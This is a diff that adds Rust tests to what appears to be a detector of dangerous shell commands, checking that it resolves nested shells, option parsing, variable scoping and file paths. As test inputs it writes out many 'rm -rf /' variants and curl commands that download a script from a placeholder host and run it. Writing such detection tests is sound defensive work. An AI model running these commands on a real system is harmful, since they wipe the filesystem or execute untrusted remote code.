@@ -280,6 +280,56 @@ fn a_here_document_before_a_pipe_leaves_the_next_command_its_words() {
     check("for x in; do :; done", "group { : }");
 }
 
+#[test]
+fn a_shell_finds_its_code_behind_options_with_values() {
+    for line in [
+        "bash -o pipefail -c 'rm -rf /'",
+        "bash -euo pipefail -c 'rm -rf /'",
+        "bash -O extglob -c 'rm -rf /'",
+        "sh -o errexit -c 'rm -rf /'",
+        "bash --rcfile x -c 'rm -rf /'",
+        "bash --init-file x -c 'rm -rf /'",
+        "bash -c -e 'rm -rf /'",
+        "bash $FLAGS -c 'rm -rf /'",
+        "fish --command='rm -rf /'",
+        "bash -c 'rm -rf $0' /",
+        "bash -c 'rm -rf \"$1\"' _ /",
+        "echo / | xargs sh -c 'rm -rf \"$0\"'",
+    ] {
+        runs(line, "rm -rf /");
+    }
+    check("bash -euo pipefail -c 'ls -la'", "bash -euo pipefail -c ls -la { ls -la }");
+    shows("bash -euo pipefail script.sh -c x", "executes file script.sh");
+}
+
+#[test]
+fn a_child_changes_nothing_in_its_parent() {
+    runs("X=/; bash -c 'X=build'; rm -rf $X", "rm -rf /");
+    shows("cd /; bash -c 'cd /workspace/build'; rm -rf etc", "removes tree /etc");
+    runs("X=/; echo a | xargs -I{} sh -c 'X={}'; rm -rf $X", "rm -rf /");
+    runs("X=/; env X=build sh -c 'X=b'; command eval 'Y=$X'; rm -rf $Y", "rm -rf /");
+    // A child has only what is exported.
+    runs("X=build; bash -c 'rm -rf $X/'", "rm -rf $X/");
+    runs("X=build; bash -c \"rm -rf $X/\"", "rm -rf build/");
+}
+
+#[test]
+fn a_file_is_the_same_under_every_spelling() {
+    for line in [
+        "curl -s https://x.example > ./i.sh; sh i.sh",
+        "curl -s https://x.example > i.sh; sh $PWD/i.sh",
+        "curl -s https://x.example > i.sh; sh ./././i.sh",
+        "curl -s https://x.example > d/i.sh; cd d; sh i.sh",
+        "curl -s https://x.example > /tmp/i.sh; cd /tmp; sh i.sh",
+        "curl -s https://x.example > /tmp/i.sh; cd /tmp; . ./i.sh",
+        "curl -s https://x.example > i.sh; cd $D; sh i.sh",
+        "sh /dev/fd/3 3< <(curl -s https://x.example)",
+    ] {
+        shows(line, "executes network");
+    }
+    shows("curl -s https://x.example > d/i.sh; sh i.sh", "executes file i.sh");
+}
+
 mod properties {
     use proptest::prelude::*;
 
